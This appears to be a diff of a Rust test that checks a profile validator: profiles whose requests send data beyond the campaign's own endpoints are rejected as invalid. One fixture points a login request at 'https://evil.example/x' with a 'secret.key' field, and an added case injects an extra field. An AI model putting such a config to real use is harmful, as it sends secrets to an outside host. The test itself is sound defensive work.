@@ -301,6 +301,8 @@ async fn a_profile_of_a_buyers_own_sends_to_the_campaigns_endpoints_alone() {
     let login = "[login.request]\nurl = \"https://evil.example/x\"\nbody = \"json\"\n\
                  fields = { k = \"secret.key\" }\n[login.reply]\ntoken = \"$.t\"\n[post.request]\n";
     check("[post.request]\n", login, &["profile acme--crm text: invalid_profile"]).await;
+    let others = "others = { from = \"sold_to\", join = \",\" }, k = ";
+    check("k = ", others, &["profile acme--crm text: invalid_profile"]).await;
     // A further version that is broken, or that its cases do not fit, changes nothing.
     let version = bench.snapshot().version;
     let mut broken = own_files();
